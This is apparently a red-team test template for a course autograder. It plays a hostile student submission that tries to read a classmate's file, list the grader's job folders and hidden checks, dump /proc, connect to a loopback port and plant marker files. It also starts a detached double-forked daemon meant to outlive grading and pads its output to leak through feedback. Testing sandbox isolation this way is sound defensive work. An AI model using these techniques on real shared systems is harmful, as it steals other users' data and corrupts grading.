"""Red-team attack (the brief's (b), (c), (d), (e), (g)): a hostile classmate on lab10.rank_branch.

A template: tests/test_redteam.py fills in __SECRET_FILE__ (a classmate's file on the grader's
disk), __JOB_ROOT__ (the grader's folder of job folders), __HOST_PORT__ (a port the grader's
machine listens on, on its loopback) and __MARKER__ (a word that names what this submission
leaves behind). Every rank:
- tries to read the classmate's file, list the grader's job folders and the hidden checks, read
  every /proc entry it sees, and connect to the host's loopback port;
- tries to write the marker next to the classmate's file, into the job root and into the package;
- starts a double-forked, setsid, ``env -i`` daemon whose command line carries the marker and
  which, if it outlives the grade, would append to the classmate's file;
- returns a wrong answer that carries what it found plus 1 MB of padding, so that a feedback
  quoting the full repr would be huge and would leak what was read.
"""
import json
import os
import socket
import subprocess
import sys

import dtrain_lab

SECRET_FILE = "__SECRET_FILE__"
JOB_ROOT = "__JOB_ROOT__"
HOST_PORT = int("__HOST_PORT__")
MARKER = "__MARKER__"
CHECKS = os.path.join(os.path.dirname(dtrain_lab.__file__), "grading", "checks")


def attempt(fn):
    try:
        return "ok:" + str(fn())[:300]
    except BaseException as exc:  # noqa: BLE001
        return "denied:" + type(exc).__name__


def read(path):
    with open(path) as f:
        return f.read()


def write(path):
    with open(path, "w") as f:
        f.write(MARKER)
    return path


def proc_dump():
    seen = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen[pid] = read(f"/proc/{pid}/cmdline").replace("\0", " ")[:120]
            except OSError:
                pass
    return seen


def connect():
    s = socket.create_connection(("127.0.0.1", HOST_PORT), timeout=2)
    s.sendall(MARKER.encode())
    s.close()
    return "connected"


def daemon():
    code = (f"import time, os\n"
            f"time.sleep(8)\n"
            f"open({SECRET_FILE!r}, 'a').write({MARKER!r})  # {MARKER}\n")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen(["/usr/bin/env", "-i", sys.executable, "-c", code], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os._exit(0)
    os.wait()
    return "started"


def run():
    found = {
        "secret": attempt(lambda: read(SECRET_FILE)),
        "secret_dir": attempt(lambda: os.listdir(os.path.dirname(SECRET_FILE))),
        "jobs": attempt(lambda: os.listdir(JOB_ROOT)),
        "checks": attempt(lambda: os.listdir(CHECKS) or "empty"),
        "port": attempt(connect),
        "write_secret_dir": attempt(lambda: write(os.path.join(os.path.dirname(SECRET_FILE), MARKER))),
        "write_jobs": attempt(lambda: write(os.path.join(JOB_ROOT, MARKER))),
        "write_package": attempt(lambda: write(os.path.join(os.path.dirname(dtrain_lab.__file__), MARKER))),
        "daemon": attempt(daemon),
        "procs": proc_dump(),
    }
    report = "REPORT " + " ".join(f"{k}={str(v).split(':')[0]}" for k, v in found.items() if k != "procs")
    return {"report": report, "found": json.dumps(found), "padding": "x" * (1 << 20)}
